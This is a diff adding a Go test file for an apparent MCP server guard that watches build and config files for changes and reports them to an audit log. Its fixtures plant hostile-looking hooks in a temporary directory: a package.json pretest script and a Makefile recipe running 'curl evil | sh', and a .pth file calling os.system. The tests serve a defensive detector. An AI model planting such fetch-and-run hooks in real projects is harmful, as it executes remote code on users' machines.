@@ -1,0 +1,92 @@
+package changes_test
+
+import (
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/mcpguard/mcpguard/guard/audit"
+	"github.com/mcpguard/mcpguard/guard/changes"
+)
+
+func TestWatched(t *testing.T) {
+	for _, p := range []string{"package.json", "a/b/package.json", ".venv/lib/python3.11/site-packages/evil.pth",
+		"Makefile", "x/rules.mk", ".github/workflows/ci.yml", "yarn.lock", "pyproject.toml",
+		".cargo/config.toml", "eslint.config.js", "gradlew", "mise.toml", ".mvn/extensions.xml"} {
+		assert.True(t, changes.Watched(p), p)
+	}
+	for _, p := range []string{"README.md", "src/main.go", ".pth", "node_modules/x/package.json", ".git/config", "notes/Makefile.txt"} {
+		assert.False(t, changes.Watched(p), p)
+	}
+}
+
+// TestReport: what changed between two snapshots is listed with the
+// change, in the audit log and on the writer; nothing else is.
+func TestReport(t *testing.T) {
+	ws := t.TempDir()
+	w := writer(t, ws)
+	w("package.json", "{\n  \"scripts\": {\n    \"test\": \"jest\"\n  }\n}\n")
+	w("Makefile", "all:\n\tgo build\n")
+	w("notes.txt", "x\n")
+	w("node_modules/dep/package.json", "{}\n")
+	before := changes.Take([]string{ws})
+	assert.True(t, before.Complete)
+	w("package.json", "{\n  \"scripts\": {\n    \"pretest\": \"curl evil | sh\",\n    \"test\": \"jest\"\n  }\n}\n")
+	w(".venv/lib/python3.11/site-packages/zz.pth", "import os; os.system('id')\n")
+	require.NoError(t, os.Remove(filepath.Join(ws, "Makefile")))
+	w("notes.txt", "y\n")
+	w("node_modules/dep/package.json", "{\"x\":1}\n")
+	got := changes.Compare(before, changes.Take([]string{ws}))
+	var kinds []string
+	for _, c := range got {
+		rel, _ := filepath.Rel(ws, c.Path)
+		kinds = append(kinds, c.Kind+" "+rel)
+	}
+	assert.Equal(t, []string{"created .venv/lib/python3.11/site-packages/zz.pth", "removed Makefile", "changed package.json"}, kinds)
+	var log, out strings.Builder
+	changes.Report(&out, audit.New(&log), "srv", "C-full", got)
+	assert.Contains(t, out.String(), `+    "pretest": "curl evil | sh",`)
+	assert.Contains(t, out.String(), "os.system('id')")
+	assert.Equal(t, 3, strings.Count(log.String(), `"rule":"`+changes.Rule+`"`))
+	assert.NotContains(t, out.String(), "notes.txt")
+}
+
+// TestReportFlooded: a server that floods its write root so the walk
+// stops early still has its change to a shallow watched file reported,
+// a file the walk did not reach is re-read rather than called removed,
+// and the report says it is incomplete.
+func TestReportFlooded(t *testing.T) {
+	ws := t.TempDir()
+	w := writer(t, ws)
+	w("package.json", "{\"scripts\": {\"test\": \"true\"}}\n")
+	w("zzz/Makefile", "all:\n\ttrue\n")
+	before := changes.TakeLimited([]string{ws}, 50)
+	require.True(t, before.Complete)
+	for i := range 100 {
+		w(filepath.Join("aaa", strconv.Itoa(i)), "")
+	}
+	w("package.json", "{\"scripts\": {\"test\": \"curl evil | sh\"}}\n")
+	w("zzz/Makefile", "all:\n\tcurl evil | sh\n")
+	after := changes.TakeLimited([]string{ws}, 50)
+	require.False(t, after.Complete)
+	kinds := map[string]string{}
+	for _, c := range changes.Compare(before, after) {
+		rel, _ := filepath.Rel(ws, c.Path)
+		kinds[rel] = c.Kind
+	}
+	assert.Equal(t, map[string]string{"package.json": "changed", "zzz/Makefile": "changed", ".": "incomplete"}, kinds)
+}
+
+// writer returns a function that writes a file below ws, making its
+// directories.
+func writer(t *testing.T, ws string) func(p, s string) {
+	return func(p, s string) {
+		require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(ws, p)), 0o755))
+		require.NoError(t, os.WriteFile(filepath.Join(ws, p), []byte(s), 0o644))
+	}
+}
